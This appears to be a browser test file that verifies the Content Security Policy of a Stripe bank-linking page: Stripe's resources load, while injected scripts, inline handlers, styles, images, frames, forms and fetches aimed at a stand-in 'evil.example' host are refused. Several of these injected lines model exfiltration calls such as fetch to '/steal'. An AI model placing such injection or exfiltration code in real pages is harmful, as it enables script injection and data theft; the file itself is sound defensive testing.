// The production Worker's page, with the policy it is deployed with: Stripe's script gets in, and nothing else does.
import { randomUUID } from "node:crypto";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { holderKey, newLinkId } from "../../src/domain/ids.ts";
import { startWorkers, type Workers, workerOf } from "../workerd/start.ts";
import { launchChromium } from "./chromium.ts";
import { type Visit, visit } from "./visit.ts";

const settings = {
  STRIPE_SECRET_KEY: "rk_test_123",
  STRIPE_PUBLISHABLE_KEY: "pk_test_123",
  STRIPE_WEBHOOK_SECRET: "whsec_12345678",
  API_KEY: "an_operator_key_of_length",
  LINK_SIGNING_KEY: "0123456789012345678901234567890123456789",
  PUBLIC_URL: "https://link.example.com",
  BUSINESS_NAME: "Rocket Rides",
  LOGO_URL: "https://rocketrides.example/logo.svg",
  BRAND_COLOR: "#0f5c4a",
  SUPPORT_EMAIL: "help@rocketrides.example",
  PRIVACY_URL: "https://rocketrides.example/privacy",
  RETURN_URLS: "https://app.example.com",
  NOTIFY_URL: "",
  NOTIFY_SECRET: "",
};

/** What the seeding needs of the account holder's object. */
interface Seeding {
  ACCOUNT_HOLDER: {
    getByName(key: string): {
      createLink(id: string, terms: object, created: number): Promise<{ ok: boolean }>;
    };
  };
}

let production: Workers;
let browser: Browser;
let path: string;

beforeAll(async () => {
  const worker = await workerOf("production");
  const starting = startWorkers([{ ...worker, bindings: { ...worker.bindings, ...settings } }]);
  [production, browser] = await Promise.all([starting, launchChromium()]);
  path = await seed();
});
afterAll(async () => {
  await browser?.close();
  await production?.close();
});

/** The path of a link made without asking Stripe, whom the production Worker cannot reach from here. */
async function seed(): Promise<string> {
  const customer = "cus_seeded";
  const key = await holderKey(customer);
  const now = Date.now();
  const id = await newLinkId(now, key, randomUUID());
  const terms = {
    account_holder: { type: "customer", customer },
    permissions: ["payment_method"],
    prefetch: [],
    filters: { country: "US", account_subcategories: ["checking"], require_payment_method_support: "none" },
    limits: null,
    manual_entry: { mode: "disabled" },
    purpose: null,
    return_url: null,
    client_reference_id: null,
    locale: "auto",
    metadata: {},
    expires_at: Math.floor(now / 1000) + 3600,
  };
  const env = await production.worker.getEnv<Seeding>();
  const made = await env.ACCOUNT_HOLDER.getByName(key).createLink(id, terms, Math.floor(now / 1000));
  expect(made.ok).toBe(true);
  const headers = { Authorization: `Bearer ${settings.API_KEY}` };
  const link = (await (await fetch(new URL(`/v1/links/${id}`, production.url), { headers })).json()) as { url: string };
  return new URL(link.url).pathname;
}

// Stripe.js as far as the page can tell: it opens a frame of its own, talks to its API, and gives the accounts.
const standIn = `window.Stripe = (key, options) => ({
  async collectFinancialConnectionsAccounts({ clientSecret }) {
    window.opened = { key, clientSecret };
    const frame = document.createElement("iframe");
    frame.src = "https://js.stripe.com/frame";
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener("load", resolve));
    await fetch("https://api.stripe.com/v1/consumers");
    frame.remove();
    return { financialConnectionsSession: { id: "fcsess_1", accounts: [{}] } };
  },
});`;

/** Which hosts the browser asked, and every refusal by the policy. */
interface Watched extends Visit {
  asked: string[];
  refused(): Promise<string[]>;
}

async function open(): Promise<Watched> {
  const asked: string[] = [];
  const prepare = async (page: Page) => {
    await page.addInitScript(() => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener("securitypolicyviolation", (event) => {
        refused.push(`${event.effectiveDirective} ${event.blockedURI}`);
      });
    });
    await page.route(/^https:/, (route) => {
      const url = new URL(route.request().url());
      asked.push(`${url.host}${url.pathname}`);
      const headers = { "Access-Control-Allow-Origin": "*" };
      if (url.host === "js.stripe.com" && url.pathname.endsWith(".js"))
        return route.fulfill({ contentType: "text/javascript", body: standIn });
      if (url.pathname.endsWith(".svg"))
        return route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
      if (url.pathname.endsWith(".js"))
        return route.fulfill({ contentType: "text/javascript", body: "window.evil = 1" });
      return route.fulfill({ contentType: "text/html", headers, body: "<p>Here</p>" });
    });
    const minted = { clientSecret: "secret", publishableKey: "pk_test_123", session: "fcsess_1", stripeAccount: null };
    const account = { institutionName: "Bank", last4: "6789", subcategory: "checking" };
    await page.route("**/session", (route) => route.fulfill({ json: minted }));
    await page.route("**/complete", (route) =>
      route.fulfill({ json: { status: "completed", accounts: [account], returnUrl: null } }),
    );
  };
  const customer = await visit(browser, production, path, {}, prepare);
  await customer.page.locator("main[data-live]").waitFor();
  return Object.assign(customer, {
    asked,
    refused: () => customer.page.evaluate(() => (window as unknown as { refused: string[] }).refused),
  });
}

it("lets Stripe's script, frames and API in, and our own script run, with no refusal on the way", async () => {
  const customer = await open();
  const script = await customer.page.locator("script[data-stripe]").getAttribute("src");
  expect(script).toMatch(/^https:\/\/js\.stripe\.com\/\w+\/stripe\.js$/);
  await customer.tap();
  await customer.reaches("linked");
  expect(await customer.page.evaluate("window.opened")).toEqual({ key: "pk_test_123", clientSecret: "secret" });
  expect(new Set(customer.asked)).toEqual(
    new Set([
      new URL(script ?? "").host + new URL(script ?? "").pathname,
      "rocketrides.example/logo.svg",
      "js.stripe.com/frame",
      "api.stripe.com/v1/consumers",
    ]),
  );
  expect(await customer.refused()).toEqual([]);
  expect(customer.complaints).toEqual([]);
  await customer.end();
});

describe("refuses", () => {
  /** Tries something in the page, and waits for the refusal of the directive. */
  async function expectRefused(attempt: () => void, directive: string): Promise<void> {
    const customer = await open();
    await customer.page.evaluate(attempt);
    await customer.page.waitForFunction(() => (window as unknown as { refused: string[] }).refused.length > 0, null, {
      timeout: 5_000,
    });
    const [first = ""] = await customer.refused();
    expect(first.split(" ")[0]).toBe(directive);
    expect(await customer.page.evaluate("typeof window.evil")).toBe("undefined");
    expect(customer.asked.filter((host) => host.includes("evil"))).toEqual([]);
    await customer.end();
  }

  it("a script in the page's own text", () =>
    expectRefused(() => {
      const script = document.createElement("script");
      script.textContent = "window.evil = 1";
      document.body.append(script);
    }, "script-src-elem"));

  it("a script from another origin", () =>
    expectRefused(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example/evil.js";
      document.body.append(script);
    }, "script-src-elem"));

  it("a script of our own origin that has no nonce", () =>
    expectRefused(() => {
      const script = document.createElement("script");
      script.src = "/evil.js";
      document.body.append(script);
    }, "script-src-elem"));

  it("an inline event handler", () =>
    expectRefused(() => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.evil = 1");
      document.body.append(button);
      button.click();
    }, "script-src-attr"));

  it("a style in an attribute", () =>
    expectRefused(() => {
      document.body.insertAdjacentHTML("beforeend", '<p style="color: red">x</p>');
    }, "style-src-attr"));

  it("an image from another origin", () =>
    expectRefused(() => {
      new Image().src = "https://evil.example/pixel.gif";
    }, "img-src"));

  it("a request to another origin", () =>
    expectRefused(() => {
      fetch("https://evil.example/steal").catch(() => {});
    }, "connect-src"));

  it("a form", () =>
    expectRefused(() => {
      const form = document.createElement("form");
      form.action = "https://evil.example/steal";
      document.body.append(form);
      form.submit();
    }, "form-action"));

  it("a base address", () =>
    expectRefused(() => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    }, "base-uri"));

  it("a frame of another origin", () =>
    expectRefused(() => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    }, "frame-src"));
});

it.each(["https://js.stripe.com/", "https://b.js.stripe.com/", "https://hooks.stripe.com/"])(
  "lets a frame of %s in",
  async (address) => {
    const customer = await open();
    await customer.page.evaluate((src) => {
      const frame = document.createElement("iframe");
      frame.src = src;
      document.body.append(frame);
    }, address);
    await customer.page.frameLocator("iframe").getByText("Here").waitFor();
    expect(await customer.refused()).toEqual([]);
    await customer.end();
  },
);

it("is framed by nobody but the operator's own pages", async () => {
  const framedBy = async (origin: string) => {
    const page = await browser.newPage();
    await page.route(`${origin}/`, (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="https://link.example.com${path}"></iframe>` }),
    );
    // The page as the Worker sends it, at the address it has in production.
    const answer = await page.request.get(new URL(path, production.url).href, { headers: { Accept: "text/html" } });
    await page.route("https://link.example.com/**", (route) => route.fulfill({ response: answer }));
    await page.goto(`${origin}/`);
    const shows = await page.frameLocator("iframe").getByRole("button", { name: "Link your bank" }).isVisible();
    await page.close();
    return shows;
  };
  expect(await framedBy("https://app.example.com")).toBe(true);
  expect(await framedBy("https://evil.example")).toBe(false);
});
